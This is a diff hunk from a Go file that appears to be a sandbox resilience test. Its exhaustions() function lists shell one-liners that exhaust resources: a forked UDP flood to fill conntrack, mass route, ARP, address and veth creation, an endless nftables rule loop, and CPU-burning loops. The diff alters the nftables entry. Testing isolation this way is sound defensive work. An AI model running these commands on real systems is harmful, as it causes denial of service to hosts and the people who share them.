@@ -71,7 +71,7 @@ func exhaustions() []Attack {
 		{id: "conntrack", tried: "filling conntrack", line: `iptables -t nat -A POSTROUTING -j MASQUERADE; ip route add 10.128.0.0/9 dev lo; perl -e 'for $q (1 .. 4) { fork or last } socket(S, 2, 2, 0); for (;;) { send(S, "x", 0, pack("S n C4 x8", 2, 1 + rand 65000, 10, 128 + rand 128, rand 256, rand 256)) }'`},
 		{id: "routes", tried: "filling routes", line: "seq 1 400000 | awk '{printf \"route add unreachable 11.%d.%d.%d\\n\", $1/65536, $1/256%256, $1%256}' >/dev/shm/r; ip -batch /dev/shm/r"},
 		{id: "neighbours", tried: "filling ARP tables", line: `ip link add d0 type bridge; ip link set d0 up; ip addr add 10.200.0.1/16 dev d0; seq 2 60000 | awk '{printf "neigh add 10.200.%d.%d lladdr 02:00:00:00:00:01 dev d0\n", $1/256, $1%256}' >/dev/shm/n; ip -batch /dev/shm/n`},
-		{id: "nft-rules", tried: "filling packet filter rules", line: "(printf 'table inet t {\\nchain c {\\n'; seq 1 200000 | sed 's/.*/tcp dport 80 counter/'; printf '}\\n}\\n') >/dev/shm/n; nft -f /dev/shm/n"},
+		{id: "nft-rules", tried: "filling packet filter rules", line: "nft 'add table inet t; add chain inet t c'; seq 1 2000 | sed 's/.*/add rule inet t c tcp dport 80 counter/' >/dev/shm/n; while nft -f /dev/shm/n; do :; done"},
 		{id: "veth-pairs", tried: "filling veth pairs", line: "for i in $(seq 1 3000); do ip link add v$i type veth peer name w$i || break; done"},
 		{id: "addresses", tried: "filling addresses", line: "seq 1 65000 | awk '{printf \"addr add 12.1.%d.%d/32 dev lo\\n\", $1/256, $1%256}' >/dev/shm/a; ip -batch /dev/shm/a"},
 		{id: "cpu-miner", tried: "a CPU miner on all processors", line: "for i in $(seq 1 50); do (while :; do :; done) & done; wait"},
